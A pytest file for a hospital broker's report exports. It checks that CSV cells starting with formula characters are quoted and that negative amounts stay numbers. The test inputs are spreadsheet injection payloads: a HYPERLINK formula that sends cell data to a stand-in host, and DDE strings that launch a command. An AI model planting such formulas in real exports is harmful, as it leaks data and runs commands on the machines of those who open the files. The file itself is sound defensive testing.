"""CSV exports cannot carry spreadsheet formulas (OWASP CSV injection); numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from broker.services.reports import (
    Activity,
    Figures,
    RegulatorReport,
    SavingsReport,
    csv_cell,
)
from broker.storage import hospitals


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_starts_a_formula_gets_a_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["H001", "LAB-HGB", "2026-05", "第一人民医院", "", " =x"])
def test_other_text_is_unchanged(text: str) -> None:
    assert csv_cell(text) == text


@pytest.mark.parametrize("number", [Decimal("-12.50"), -3, 0, Decimal("5.40")])
def test_numbers_are_unchanged(number: object) -> None:
    assert csv_cell(number) is number


def test_savings_csv_keeps_a_negative_net_as_a_number_and_quotes_a_formula_key() -> None:
    reversed_only = Figures(reversals=1, reversed_fen=1250)  # net -12.50 yuan
    report = SavingsReport(
        "item", None, None, None, {"=1+2": reversed_only}, Figures(reversals=1, reversed_fen=1250)
    )
    header, evil, total = rows(report.as_csv())
    assert evil[0] == "'=1+2" and total[0] == "TOTAL"
    net = header.index("net_saved")
    assert evil[net] == "-12.50" and total[net] == "-12.50"
    assert evil[header.index("reversed")] == "12.50" and evil[header.index("saved")] == "0.00"


def test_regulator_csv_quotes_a_hospital_name_set_to_a_formula() -> None:
    h = hospitals.Hospital("H001", "=cmd|'/C calc'!A0", "510502", "3")
    activity = Activity(lookups=2, reversals=1, reversed_fen=540)
    report = RegulatorReport(
        "2026-05",
        [h],
        {"H001": activity},
        {c: Activity() for c in ("DR", "CT", "MR", "US", "LAB", "OTHER")},
        [],
        activity,
    )
    header, first, *_ = rows(report.as_csv())
    assert first[header.index("name")] == "'=cmd|'/C calc'!A0"
    assert first[header.index("net_saved")] == "-5.40"
